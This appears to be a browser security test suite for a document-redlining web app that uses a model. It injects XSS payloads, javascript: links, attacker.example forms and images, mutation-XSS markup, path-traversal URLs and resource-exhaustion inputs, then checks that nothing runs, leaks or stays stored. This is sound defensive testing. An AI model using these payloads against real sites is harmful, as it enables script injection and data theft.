// Hostile documents, names, models and agents: nothing of theirs may run, leave the machine, or turn the page against its reader.
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Browser, Page } from "playwright-core";
import { binary, serveModel } from "../../shared/test/server.ts";
import type { Server } from "../../shared/test/server.ts";
import { browserPath, drop, example, launch, open } from "./browser.ts";
import { expectInert, HOSTILE, MARKS } from "./hostile.ts";
import { script } from "./script.ts";

const nda = example("nda.docx");

describe.skipIf(!binary || !browserPath)("an attacker", () => {
  let server: Server;
  let browser: Browser;

  beforeAll(async () => {
    const model = script(
      { asked: "attack", text: HOSTILE.join("\n\n") },
      { asked: "call", text: HOSTILE[0] ?? "", calls: [{ name: "apply_redlines", args: { operations: [{ op: "modify_text", originalText: HOSTILE[1], replacementText: HOSTILE[2] }] } }], then: HOSTILE[3] ?? "" },
      { asked: "flood", text: "x".repeat(10_000_000) },
    );
    [server, browser] = await Promise.all([serveModel(model, {}), launch()]);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  const say = async (page: Page, text: string) => {
    await page.getByLabel("What should change?").last().fill(text);
    await page.getByRole("button", { name: "Send" }).click();
  };
  test("writes into a document: text, author, comment, and the name of the file", async () => {
    const name = `<img src=x onerror=console.log('EXECUTED')> ${"\u202e"}xcod.docx`.replace(/[<>:"/\\|?*]/g, "_");
    const window = await open(browser, server.baseUrl);
    const { page } = window;
    await drop(page, ".drop", { name, bytes: nda });
    await Promise.race([page.waitForSelector(".paper [data-address]"), page.waitForSelector(".failure")]);
    // A name that the server refuses says so; another one holds the rest.
    if (await page.locator(".failure").count()) {
      await expectInert(window);
      await page.reload();
      await drop(page, ".drop", { name: "<b>&amp; plain.docx".replace(/[<>]/g, "'"), bytes: nda });
      await page.waitForSelector(".paper [data-address]");
    }
    const place = new URL(page.url()).hash.replace(/^#\/document\//, "").split("/");
    const operations = HOSTILE.flatMap((text, index) => [
      { op: "insert_paragraph", after: "P1", content: text, plain: true, author: `Eve ${text}`.slice(0, 200) },
      { op: "insert_comment", target: "P2", commentContent: text, plain: true, author: `Mallory ${index}` },
    ]);
    const response = await fetch(`${server.baseUrl}/workspaces/${place[0]}/files/${place.slice(1).join("/")}/operations`, {
      method: "POST",
      body: JSON.stringify({ operations }),
    });
    const told = (await response.json()) as { summary?: { applied: number } };
    expect(told.summary?.applied, JSON.stringify(told).slice(0, 2000)).toBeGreaterThan(HOSTILE.length);
    await page.reload();
    await page.waitForSelector(".paper [data-address]");
    await expect.poll(() => page.textContent(".paper")).toContain("onerror");
    for (const tab of ["Changes", "Comments", "Versions"]) {
      await page.getByRole("tab", { name: new RegExp(tab) }).click();
      await page.waitForTimeout(100);
      await expectInert(window);
    }
    // What turns the direction of writing is made visible in the lists.
    await page.getByRole("tab", { name: /Changes/ }).click();
    expect(await page.textContent(".changes")).not.toMatch(MARKS);
    await window.close();
  });

  test("is the model: its words, its calls, and ten million characters on one line", async () => {
    const window = await open(browser, server.baseUrl);
    const { page } = window;
    await drop(page, ".drop", { name: "nda.docx", bytes: nda });
    await page.waitForSelector(".paper [data-address]");
    for (const word of ["attack", "call"]) {
      await say(page, word);
      await page.getByRole("button", { name: "Send" }).waitFor();
      await expectInert(window);
    }
    for (const call of await page.locator("details.call").all()) await call.locator("summary").click();
    await expect.poll(() => page.textContent(".conversation")).toContain("onerror");
    expect(await page.textContent(".conversation")).not.toMatch(MARKS);
    await say(page, "flood");
    await page.getByRole("button", { name: "Send" }).waitFor({ timeout: 30_000 });
    await page.getByText(/more characters are not shown/).first().waitFor();
    // The page answers at once all the same.
    const before = Date.now();
    await page.getByRole("tab", { name: /Changes/ }).click();
    await page.waitForSelector(".changes, .empty");
    expect(Date.now() - before).toBeLessThan(3_000);
    await expectInert(window);
    await window.close();
  }, 60_000);

  test("is the view of a document itself, whatever the server lets through", async () => {
    const window = await open(browser, server.baseUrl);
    const { page } = window;
    const inner = [
      ...HOSTILE,
      `<p id="main" class="button failure" data-address="P1" onclick="console.log('EXECUTED')" style="position:fixed;inset:0">shown <b>text</b></p>`,
      `<p data-address="P2"><a href="javascript:console.log('EXECUTED')">one</a><a href="data:text/html,<script>console.log('EXECUTED')</script>">two</a>
       <a href="#P1">three</a><a href="https://example.org/x" target="_self">four</a><a href="http://attacker.example/">five</a></p>`,
      `<img src="http://attacker.example/x.png"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:image/png;base64,iVBORw0KGgo=" alt="kept">`,
      `<form action="http://attacker.example/"><input name=key><button formaction="http://attacker.example/">Key</button></form>`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=console.log('EXECUTED')&gt;"></table></math>`,
      `<template><img src=x onerror="console.log('EXECUTED')"></template><noscript><p title="</noscript><img src=x onerror=console.log('EXECUTED')>"></noscript>`,
      "<span>".repeat(5_000) + "deep" + "</span>".repeat(5_000),
      `<table><tr><td colspan="1000000" rowspan="1000000">cell</td></tr></table>`,
    ].join("\n");
    await page.route("**/*as=html*", async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, body: `<article class="docx" onload="console.log('EXECUTED')"><div class="body">${inner}</div></article>` });
    });
    await drop(page, ".drop", { name: "nda.docx", bytes: nda });
    await page.locator(".paper").getByText("shown text").waitFor();
    await expect.poll(() => page.locator(".paper").textContent()).toContain("deep");
    const links = await page.locator(".paper a").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
    expect(links).toEqual([null, null, "#doc-P1", "https://example.org/x", null]);
    await expect.poll(() => page.locator(".paper img").evaluateAll((all) => all.map((image) => image.getAttribute("src")?.slice(0, 15) ?? null).filter((source) => source !== null))).toEqual(["data:image/png;"]);
    await expect.poll(() => page.locator(".paper").locator("input, button, form, style, script, template, svg, math, [style], [id=main]").count()).toBe(0);
    await page.locator(".paper").getByText("three").click();
    expect(new URL(page.url()).hash).toMatch(/^#\/document\//);
    // The parser's own document says what the policy kept from it; anything else would be a misdeed.
    const kept = /^console (Executing inline event handler|Applying inline style|Setting the document's base URI) /;
    window.misdeeds.splice(0, Infinity, ...window.misdeeds.filter((misdeed) => !kept.test(misdeed)));
    await expectInert(window);
    await window.close();
  });

  test("leads a person to an address of theirs", async () => {
    for (const hash of [
      "#/document/%3Cimg%20src=x%20onerror=console.log('EXECUTED')%3E/x",
      "#/session/%3Cscript%3Econsole.log('EXECUTED')%3C/script%3E",
      "#/document/..%2f..%2fv1/..%2f..%2fmetrics",
      "#/%E0%A4%A",
      "#javascript:console.log('EXECUTED')",
    ]) {
      const window = await open(browser, server.baseUrl, hash);
      await window.page.waitForSelector("h1, .failure");
      await expectInert(window);
      await window.close();
    }
  });
});

describe.skipIf(!binary || !browserPath)("a key", () => {
  test("is asked for once, kept nowhere, and shown nowhere", async () => {
    const key = "s3cret-key-of-the-server";
    const [server, browser] = await Promise.all([serveModel("rules", {}, "--token", key), launch()]);
    try {
      const { page, context, misdeeds } = await open(browser, server.baseUrl);
      const urls: string[] = [];
      context.on("request", (request) => urls.push(request.url()));
      await page.getByLabel("Key", { exact: true }).fill("wrong");
      await page.getByRole("button", { name: "Continue" }).click();
      await page.getByText("The key is not the right one.").waitFor();
      await page.getByLabel("Key", { exact: true }).fill(key);
      await page.getByRole("dialog").getByLabel("Your name").fill("Ada");
      await page.getByRole("button", { name: "Continue" }).click();
      await drop(page, ".drop", { name: "nda.docx", bytes: nda });
      await page.waitForSelector(".paper [data-address]");
      await page.getByLabel("What should change?").last().fill("delete paragraph 3");
      await page.getByRole("button", { name: "Send" }).click();
      await page.getByText("Operations applied: 1").waitFor();
      for (const place of ["server", "sessions", "tasks", "writes"]) {
        await page.goto(`${page.url().split("#")[0]}#/${place}`);
        await page.waitForSelector("h1");
        expect(await page.content()).not.toContain(key);
      }
      const stored = await page.evaluate(async () => ({
        local: JSON.stringify({ ...localStorage }),
        session: JSON.stringify({ ...sessionStorage }),
        databases: (await indexedDB.databases()).length,
        caches: (await caches.keys()).length,
        cookies: document.cookie,
      }));
      expect(stored).toEqual({ local: "{}", session: "{}", databases: 0, caches: 0, cookies: "" });
      expect(urls.filter((url) => url.includes(key))).toEqual([]);
      expect(misdeeds).toEqual([]);
      // Loaded anew, the page knows nothing of it.
      await page.reload();
      await page.getByLabel("Key", { exact: true }).waitFor();
    } finally {
      await browser.close();
      await server.stop();
    }
  });
});
